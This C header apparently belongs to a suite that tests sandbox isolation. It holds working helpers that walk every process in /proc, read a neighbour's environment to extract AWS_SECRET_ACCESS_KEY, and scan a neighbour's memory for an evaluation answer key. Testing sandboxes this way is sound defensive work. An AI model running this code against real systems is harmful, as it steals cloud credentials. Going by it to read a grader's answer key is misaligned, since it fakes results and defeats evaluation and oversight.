/* SPDX-License-Identifier: MIT */
/*
 * neighbours.h - the other processes that /proc shows, and what is worth taking from them.
 *
 * The worker runs under the student's own uid, so ordinary permissions let the student read it: its
 * environment, its memory, its descriptors. How to get at them is the means, and stands in each
 * attack; whom to try, and what a secret looks like, is the same for all and stands here.
 */
#ifndef ATTACKS_PROC_READ_NEIGHBOURS_H
#define ATTACKS_PROC_READ_NEIGHBOURS_H

#include "attacks/attack.h"

#include <dirent.h>
#include <errno.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

/*
 * Call rob() with the worker's pid, then with every pid in /proc but our own, until one call
 * returns true. A sandbox's supervisor is a neighbour too: it often keeps the caller's environment.
 * False with ESRCH where nobody else is in sight, as in a pid namespace of one's own.
 */
static inline bool any_neighbour(const struct brief *b, bool (*rob)(pid_t pid))
{
	struct dirent *entry;
	bool robbed;
	DIR *proc;

	errno = ESRCH;
	if (b->worker && b->worker != getpid() && rob(b->worker))
		return true;
	proc = opendir("/proc");
	if (!proc)
		return false;
	for (robbed = false; !robbed && (entry = readdir(proc));) {
		pid_t pid = (pid_t)strtol(entry->d_name, NULL, 10);

		robbed = pid > 0 && pid != getpid() && pid != b->worker && rob(pid);
	}
	closedir(proc);
	return robbed;
}

/* Hand over the credential in a block of NUL-separated NAME=VALUE strings, if it is there. */
static inline bool loot_credential(const char *block, size_t n)
{
	static const char name[] = "AWS_SECRET_ACCESS_KEY=";
	const char *at = memmem(block, n, name, sizeof(name) - 1);

	if (at)
		loot(at, strnlen(at, n - (size_t)(at - block)));
	return at;
}

/* The same for an open .../environ, which is closed; -1, a failed open, holds nothing. */
static inline bool loot_environ(int fd)
{
	char block[32768];
	size_t n = 0;
	ssize_t k;

	if (fd < 0)
		return false;
	while (n < sizeof(block) && (k = read(fd, block + n, sizeof(block) - n)) > 0)
		n += (size_t)k;
	close(fd);
	return loot_credential(block, n);
}

/* Hand over the answer key in n bytes of a neighbour's memory, if it is there. */
static inline bool loot_answer(const char *memory, size_t n)
{
	static const char mark[] = "ANSWER-KEY:";
	const size_t whole = sizeof(mark) - 1 + 32; /* the mark and 32 hexadecimal digits */
	const char *at = memory, *end = memory + n;

	for (; (at = memmem(at, (size_t)(end - at), mark, sizeof(mark) - 1)); at++) {
		if (at + whole > end)
			return false;
		if (strspn(at + sizeof(mark) - 1, "0123456789abcdef") < 32)
			continue; /* a format string, not the answer */
		loot(at, whole);
		return true;
	}
	return false;
}

#endif
